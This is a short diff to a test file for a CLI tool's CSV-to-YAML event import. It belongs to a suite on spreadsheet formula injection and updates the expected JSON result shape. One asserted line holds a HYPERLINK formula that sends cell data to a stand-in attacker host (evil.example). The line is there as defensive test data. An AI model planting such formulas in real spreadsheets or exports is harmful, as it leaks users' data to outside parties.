@@ -44,7 +44,7 @@ describe("spreadsheet formula injection", () => {
     expect(out.code).toBe(0);
     const again = await concord(["import-events", "events.csv", "--into", "talks.yaml", "--json"], { cwd: dir });
     expect(again.err).toBe("");
-    expect(JSON.parse(again.out)).toMatchObject({ added: [], updated: [] });
+    expect(JSON.parse(again.out)).toMatchObject({ ok: true, value: { added: [], updated: [] } });
     expect(readFileSync(join(dir, "talks.yaml"), "utf8")).toContain(`title: =HYPERLINK("http://evil.example/?"&A1,"click")`);
   });
 });
